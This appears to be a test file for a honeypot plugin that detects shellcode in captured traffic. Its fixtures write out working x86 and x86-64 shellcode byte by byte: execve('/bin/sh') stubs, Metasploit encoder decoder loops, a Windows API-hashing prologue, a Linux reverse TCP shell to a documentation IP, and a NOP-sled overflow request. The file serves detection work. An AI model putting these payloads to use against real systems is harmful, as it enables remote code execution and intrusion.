// shellcode through the SDK harness, in the daemon's own wasm engine. The
// payloads are written out by hand, one instruction per line, from the
// published shellcode and the Metasploit encoders' decoder stubs (opcodes as
// in the Intel SDM); each test checks the exact patterns and offsets.
// Run by `honeytrap-plugin test` (node:test).
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { attackFixture, loadPlugin } from '@honeytrap/sdk';
import { ORDINARY_TRAFFIC, TLS_CLIENT_HELLO, prng } from '@honeytrap/sdk/testing';
import { asm } from './asm.mjs';

const dir = fileURLToPath(new URL('..', import.meta.url));

let plugin;
before(async () => {
  plugin = await loadPlugin(dir);
});
after(() => plugin.close());

const run = (received, port = 80) => plugin.run(attackFixture({ received, port }));
/** [offset, pattern] of every finding. */
const found = (out) => out.findings.map((f) => [f.offset, f.meta.pattern]);

// ---- payloads ----

/** Linux x86 execve("/bin//sh"), 23 bytes (shell-storm #827). */
const EXECVE = asm(`
  31 c0           | xor eax, eax
  50              | push eax
  68 2f 2f 73 68  | push "//sh"
  68 2f 62 69 6e  | push "/bin"
  89 e3           | mov ebx, esp
  50              | push eax
  53              | push ebx
  89 e1           | mov ecx, esp
  b0 0b           | mov al, 11 (execve)
  cd 80           | int 0x80
`);

/** Aleph One, "Smashing The Stack For Fun And Profit" (1996): jmp/call/pop. */
const ALEPH_ONE = asm(`
  eb 1f           | jmp short +0x1f (to the call)
  5e              | pop esi (address of "/bin/sh")
  89 76 08        | mov [esi+8], esi
  31 c0           | xor eax, eax
  88 46 07        | mov [esi+7], al
  89 46 0c        | mov [esi+12], eax
  b0 0b           | mov al, 11
  89 f3           | mov ebx, esi
  8d 4e 08        | lea ecx, [esi+8]
  8d 56 0c        | lea edx, [esi+12]
  cd 80           | int 0x80
  31 db           | xor ebx, ebx
  89 d8           | mov eax, ebx
  40              | inc eax
  cd 80           | int 0x80
  e8 dc ff ff ff  | call -0x24 (back to the pop)
  2f 62 69 6e 2f 73 68 | "/bin/sh"
`);

/** The textbook XOR decoder: jmp/call/pop for the payload's address, xor byte, inc, loop. */
const XOR_DECODER = Buffer.concat([
  asm(`
    eb 0d           | jmp short +0x0d (to the call)
    5e              | pop esi (the encoded payload)
    31 c9           | xor ecx, ecx
    b1 17           | mov cl, 23
    80 36 55        | xor byte [esi], 0x55
    46              | inc esi
    e2 fa           | loop -6 (the xor)
    eb 05           | jmp short +5 (the decoded payload)
    e8 ee ff ff ff  | call -0x12 (back to the pop)
  `),
  Buffer.from(EXECVE.map((b) => b ^ 0x55)),
]);

/** msfvenom -e x86/shikata_ga_nai: FPU instruction, key, fnstenv GetPC, counter, xor/add feedback. */
const SHIKATA = asm(`
  db c0           | fcmovnb st(0), st(0)
  b8 3e 8a 4c 1f  | mov eax, 0x1f4c8a3e (key)
  d9 74 24 f4     | fnstenv [esp-0xc]
  5a              | pop edx
  31 c9           | xor ecx, ecx
  b1 12           | mov cl, 0x12
  31 42 17        | xor [edx+0x17], eax
  83 c2 04        | add edx, 4
  03 42 13        | add eax, [edx+0x13]
  9f 6a c1 56 7d 0e 5b 33 a8 d4 0c 71 3b 92 e6 05 | (encoded: the loop and the payload)
`);

/** The same encoder, another block order: key first, fld st(5), sub ecx, ecx. */
const SHIKATA_2 = asm(`
  ba 1c 2d 3e 4f  | mov edx, 0x4f3e2d1c (key)
  d9 c5           | fld st(5)
  d9 74 24 f4     | fnstenv [esp-0xc]
  5e              | pop esi
  2b c9           | sub ecx, ecx
  b1 52           | mov cl, 0x52
  31 56 12        | xor [esi+0x12], edx
  83 c6 04        | add esi, 4
  03 56 12        | add edx, [esi+0x12]
  77 3c 18 b2 0f 6e d1 47 | (encoded)
`);

/** msfvenom -e x86/call4_dword_xor. */
const CALL4_DWORD_XOR = asm(`
  2b c9           | sub ecx, ecx
  83 e9 eb        | sub ecx, -21
  e8 ff ff ff ff  | call $+4 (lands on its own last byte)
  c0              | (ff c0: inc eax)
  5e              | pop esi
  81 76 0e 6b 3f 2a 9d | xor dword [esi+0xe], 0x9d2a3f6b
  83 ee fc        | sub esi, -4
  e2 f4           | loop -12 (the xor)
  5a 9e 71 c3     | (encoded)
`);

/** msfvenom -e x86/countdown. */
const COUNTDOWN = asm(`
  6a 10           | push 16
  59              | pop ecx
  e8 ff ff ff ff  | call $+4
  c1              | (ff c1: inc ecx)
  5e              | pop esi
  30 4c 0e 07     | xor [esi+ecx+7], cl
  e2 fa           | loop -6 (the xor)
  71 33 0d 64     | (encoded)
`);

/** msfvenom -e x86/fnstenv_mov. */
const FNSTENV_MOV = asm(`
  6a 12           | push 18
  59              | pop ecx
  d9 ee           | fldz
  d9 74 24 f4     | fnstenv [esp-0xc]
  5b              | pop ebx
  81 73 13 c4 5e 09 2d | xor dword [ebx+0x13], 0x2d095ec4
  83 eb fc        | sub ebx, -4
  e2 f4           | loop -12 (the xor)
  28 6e 4a 95     | (encoded)
`);

/** lodsb / xor al / stosb. */
const LODS_DECODER = asm(`
  be 00 10 40 00  | mov esi, 0x401000
  89 f7           | mov edi, esi
  b9 00 01 00 00  | mov ecx, 256
  ac              | lodsb
  34 55           | xor al, 0x55
  aa              | stosb
  e2 fa           | loop -6 (the lodsb)
`);

/** The first 48 bytes of msfvenom -p windows/shell_reverse_tcp (block_api). */
const BLOCK_API = asm(`
  fc              | cld
  e8 82 00 00 00  | call +0x82 (start)
  60              | pushad
  89 e5           | mov ebp, esp
  31 c0           | xor eax, eax
  64 8b 50 30     | mov edx, fs:[eax+0x30] (PEB)
  8b 52 0c        | mov edx, [edx+0xc] (PEB->Ldr)
  8b 52 14        | mov edx, [edx+0x14] (InMemoryOrderModuleList)
  8b 72 28        | mov esi, [edx+0x28] (module name)
  0f b7 4a 26     | movzx ecx, word [edx+0x26]
  31 ff           | xor edi, edi
  ac              | lodsb
  3c 61           | cmp al, 'a'
  7c 02           | jl +2
  2c 20           | sub al, 0x20
  c1 cf 0d        | ror edi, 13
  01 c7           | add edi, eax
  e2 f2           | loop
  52              | push edx
  57              | push edi
`);

/** msfvenom -p linux/x86/shell_reverse_tcp LHOST=198.51.100.7 LPORT=4444 (68 bytes). */
const REVERSE_TCP = asm(`
  31 db           | xor ebx, ebx
  f7 e3           | mul ebx
  53              | push ebx
  43              | inc ebx (SYS_SOCKET)
  53              | push ebx
  6a 02           | push 2
  89 e1           | mov ecx, esp
  b0 66           | mov al, 0x66 (socketcall)
  cd 80           | int 0x80
  93              | xchg ebx, eax
  59              | pop ecx
  b0 3f           | mov al, 0x3f (dup2)
  cd 80           | int 0x80
  49              | dec ecx
  79 f9           | jns -7
  68 c6 33 64 07  | push 198.51.100.7
  68 02 00 11 5c  | push AF_INET, port 4444
  89 e1           | mov ecx, esp
  b0 66           | mov al, 0x66
  50              | push eax
  51              | push ecx
  53              | push ebx
  b3 03           | mov bl, 3 (SYS_CONNECT)
  89 e1           | mov ecx, esp
  cd 80           | int 0x80
  52              | push edx
  68 6e 2f 73 68  | push "n/sh"
  68 2f 2f 62 69  | push "//bi"
  89 e3           | mov ebx, esp
  52              | push edx
  53              | push ebx
  89 e1           | mov ecx, esp
  b0 0b           | mov al, 11 (execve)
  cd 80           | int 0x80
`);

/** Linux x86-64 execve("/bin//sh"), 23 bytes. */
const EXECVE_X64 = asm(`
  48 31 f6        | xor rsi, rsi
  56              | push rsi
  48 bf 2f 62 69 6e 2f 2f 73 68 | mov rdi, "/bin//sh"
  57              | push rdi
  54              | push rsp
  5f              | pop rdi
  6a 3b           | push 59 (execve)
  58              | pop rax
  99              | cdq
  0f 05           | syscall
`);

// ---- tests ----

describe('GetPC', () => {
  test('Aleph One: jmp / call / pop', async () => {
    const out = await run(ALEPH_ONE);
    assert.deepEqual(out.findings, [
      {
        type: 'signature',
        value: 'getpc-jmp-call-pop',
        offset: 0,
        meta: {
          pattern: 'getpc-jmp-call-pop',
          category: 'getpc',
          arch: 'x86',
          length: 38,
          register: 'esi',
          callOffset: 33,
        },
      },
    ]);
  });

  test('call $+5 / pop', async () => {
    const code = asm(`
      e8 00 00 00 00  | call $+5
      5d              | pop ebp
      81 ed 05 10 40 00 | sub ebp, 0x401005
    `);
    const out = await run(Buffer.concat([Buffer.from('junk-'), code, Buffer.from('0123456789')]));
    assert.deepEqual(found(out), [[5, 'getpc-call-pop']]);
    assert.equal(out.findings[0].meta.register, 'ebp');
  });
});

describe('XOR decoder loops and encoder stubs', () => {
  test('the textbook xor byte [esi], key / inc esi / loop decoder', async () => {
    const out = await run(XOR_DECODER);
    assert.deepEqual(found(out), [
      [0, 'getpc-jmp-call-pop'],
      [7, 'xor-decoder-loop'],
    ]);
    assert.deepEqual(out.findings[1].meta, {
      pattern: 'xor-decoder-loop',
      category: 'decoder',
      arch: 'x86',
      length: 6,
      form: 'xor-byte-imm8',
      register: 'esi',
      loop: 'loop',
      key: '0x55',
    });
  });

  test('xor byte [esi+ecx], key / dec ecx / jnz', async () => {
    const code = asm(`
      80 34 0e 99     | xor byte [esi+ecx], 0x99
      49              | dec ecx
      75 f9           | jnz -7 (the xor)
    `);
    const out = await run(
      Buffer.concat([
        asm('31 c9 | xor ecx, ecx\nb1 40 | mov cl, 64'),
        code,
        Buffer.from('encoded payload ...'),
      ]),
    );
    assert.deepEqual(found(out), [[4, 'xor-decoder-loop']]);
    assert.equal(out.findings[0].meta.loop, 'jnz');
    assert.equal(out.findings[0].meta.index, 'ecx');
  });

  test('lodsb / xor al, key / stosb / loop', async () => {
    const out = await run(LODS_DECODER);
    assert.deepEqual(found(out), [[12, 'xor-decoder-loop']]);
    assert.equal(out.findings[0].meta.form, 'lodsb-xor-stosb');
  });

  test('shikata_ga_nai, two block orders: the stub and its fnstenv GetPC', async () => {
    let out = await run(SHIKATA);
    assert.deepEqual(found(out), [
      [0, 'shikata-ga-nai'],
      [7, 'getpc-fnstenv'],
    ]);
    assert.equal(out.findings[0].meta.register, 'edx');
    assert.equal(out.findings[0].meta.fnstenvOffset, 7);
    out = await run(SHIKATA_2);
    assert.deepEqual(found(out), [
      [0, 'shikata-ga-nai'],
      [7, 'getpc-fnstenv'],
    ]);
  });

  test('call4_dword_xor', async () => {
    const out = await run(CALL4_DWORD_XOR);
    assert.deepEqual(found(out), [
      [5, 'getpc-call-plus4'],
      [5, 'msf-call4-dword-xor'],
      [12, 'xor-decoder-loop'],
    ]);
    assert.equal(out.findings[2].meta.key, '0x9d2a3f6b');
  });

  test('countdown', async () => {
    const out = await run(COUNTDOWN);
    assert.deepEqual(found(out), [
      [3, 'getpc-call-plus4'],
      [3, 'msf-countdown'],
      [10, 'xor-decoder-loop'],
    ]);
  });

  test('fnstenv_mov', async () => {
    const out = await run(FNSTENV_MOV);
    assert.deepEqual(found(out), [
      [3, 'msf-fnstenv-mov'],
      [5, 'getpc-fnstenv'],
      [10, 'xor-decoder-loop'],
    ]);
  });

  test('alpha_mixed (printable shellcode)', async () => {
    const sc =
      'PYIIIIIIIIIIIIIIII7QZjAXP0A0AkAAQ2AB2BB0BBABXP8ABuJIkLJHOrS0C0EPQpLIKUP1o0E4nkPPp0nk';
    const out = await run(`POST /cgi-bin/x HTTP/1.0\r\n\r\nbuf=${sc}`);
    assert.deepEqual(found(out), [[32 + sc.indexOf('jAXP'), 'msf-alpha-mixed']]);
  });
});

describe('shellcode stubs', () => {
  test('Linux execve("/bin//sh") after a NOP sled in an overflow request', async () => {
    const req = Buffer.concat([
      Buffer.from('GET /'),
      Buffer.alloc(260, 'A'),
      Buffer.from('efbeadde', 'hex'),
      Buffer.alloc(32, 0x90),
      EXECVE,
      Buffer.from(' HTTP/1.0\r\n\r\n'),
    ]);
    const out = await run(req);
    assert.deepEqual(found(out), [
      [269, 'nop-sled'],
      [301 + 3, 'linux-x86-push-binsh'],
      [301 + 19, 'linux-x86-execve'],
    ]);
    assert.deepEqual(out.findings[0].meta, {
      pattern: 'nop-sled',
      category: 'nop-sled',
      arch: 'x86',
      length: 32,
      kind: '0x90',
      distinct: 1,
    });
  });

  test('Linux reverse shell: socketcall, dup2, execve', async () => {
    const out = await run(REVERSE_TCP, 4444);
    assert.deepEqual(found(out), [
      [11, 'linux-x86-socketcall'],
      [17, 'linux-x86-dup2'],
      [48, 'linux-x86-push-binsh'],
      [64, 'linux-x86-execve'],
    ]);
  });

  test('Windows block_api: prologue, PEB walk, ror13 hash', async () => {
    const out = await run(BLOCK_API, 445);
    assert.deepEqual(found(out), [
      [0, 'msf-block-api'],
      [11, 'win-peb-ldr-walk'],
      [37, 'win-api-hash-ror13'],
    ]);
  });

  test('x86-64 execve', async () => {
    const out = await run(Buffer.concat([Buffer.alloc(20, 0x90), EXECVE_X64]));
    assert.deepEqual(found(out), [
      [0, 'nop-sled'],
      [24, 'linux-x64-movabs-binsh'],
    ]);
    assert.equal(out.findings[1].meta.arch, 'x86-64');
  });
});

describe('NOP sleds', () => {
  test('a generated sled of one-byte equivalents (Metasploit single_byte style)', async () => {
    const set = [
      0x90, 0x91, 0x92, 0x93, 0x97, 0x40, 0x41, 0x42, 0x43, 0x47, 0x48, 0x49, 0x4a, 0x4b, 0x4f,
      0x27, 0x2f, 0x37, 0x3f, 0x98, 0x99, 0x9b, 0x9e, 0x9f, 0xd6, 0xf5, 0xf8, 0xf9, 0xfc, 0xfd,
    ];
    const r = prng(99);
    const sled = Buffer.from(
      Array.from({ length: 100 }, () => set[Math.floor(r.next() * set.length)]),
    );
    const out = await run(Buffer.concat([Buffer.from('\x00\x01'), sled, EXECVE]));
    assert.deepEqual(found(out).slice(0, 1), [[2, 'nop-sled']]);
    assert.equal(out.findings[0].meta.kind, 'one-byte-equivalents');
    assert.equal(out.findings[0].meta.length, 100);
  });

  test('"AAAA" padding is not a sled; the 0x90 run after it is', async () => {
    const out = await run(
      Buffer.concat([Buffer.alloc(500, 'A'), Buffer.alloc(24, 0x90), Buffer.from('\xcc\xcc')]),
    );
    assert.deepEqual(found(out), [[500, 'nop-sled']]);
    assert.equal(out.findings[0].meta.length, 24);
  });

  test('below minSledLength: nothing', async () => {
    assert.deepEqual(
      found(
        await run(
          Buffer.concat([Buffer.from('data:'), Buffer.alloc(15, 0x90), Buffer.from(':data')]),
        ),
      ),
      [],
    );
  });
});

describe('artifacts', () => {
  test('a decoded payload (application/octet-stream) from another plugin', async () => {
    const data = Buffer.concat([Buffer.alloc(40, 0x90), XOR_DECODER]);
    const out = await plugin.runArtifact(
      { data, contentType: 'application/octet-stream', producer: 'b64-decode' },
      attackFixture({ received: 'GET /default.ida?%u9090 HTTP/1.0\r\n\r\n' }),
    );
    assert.deepEqual(found(out), [
      [0, 'nop-sled'],
      [40, 'getpc-jmp-call-pop'],
      [47, 'xor-decoder-loop'],
    ]);
  });
});

describe('false positives', () => {
  for (const o of ORDINARY_TRAFFIC) {
    test(`nothing in: ${o.name}`, async () => {
      const out = await run(o.data, o.port);
      assert.deepEqual(out, { findings: [], artifacts: [] });
    });
  }

  test('nothing in a TLS ClientHello', async () => {
    assert.deepEqual(found(await run(TLS_CLIENT_HELLO, 443)), []);
  });

  test('nothing in text, padding and the byte tables of compiled programs', async () => {
    const text = [
      'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
      'IIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIIII ABCDEFGHIJKLMNO ABCDEFGHIJKLMNO @@@@????////',
      'HELLO WORLD, HOW ARE YOU? 7777777777777777777777777777777777',
    ].join('\r\n');
    assert.deepEqual(found(await run(text)), []);
    const table = Buffer.from(
      '903f904090439045904690489049904a904b909f3f9f409f419f429f439f459f469f47',
      'hex',
    );
    assert.deepEqual(found(await run(table)), []);
  });

  test('nothing in 1 MiB of random bytes', async () => {
    const r = prng(20240601);
    for (let k = 0; k < 16; k++) {
      const out = await run(r.bytes(65536));
      assert.deepEqual(out.findings, [], `chunk ${k}`);
    }
  });
});

describe('config', () => {
  test('minSledLength and disable', async () => {
    const p = await loadPlugin(dir, {
      config: { minSledLength: 48, disable: ['linux-x86-push-binsh'] },
    });
    try {
      const out = await p.run(
        attackFixture({ received: Buffer.concat([Buffer.alloc(32, 0x90), EXECVE]) }),
      );
      assert.deepEqual(found(out), [[32 + 19, 'linux-x86-execve']]);
    } finally {
      await p.close();
    }
  });

  test('maxFindings bounds the result and the log says so', async () => {
    const logs = [];
    const p = await loadPlugin(dir, { config: { maxFindings: 10 }, log: (l) => logs.push(l) });
    try {
      const many = Buffer.concat(Array.from({ length: 50 }, () => Buffer.from('b066cd80', 'hex')));
      const out = await p.run(attackFixture({ received: many }));
      assert.equal(out.findings.length, 10);
      assert.ok(
        logs.some((l) => /maxFindings/.test(l)),
        logs.join('\n'),
      );
    } finally {
      await p.close();
    }
  });
});
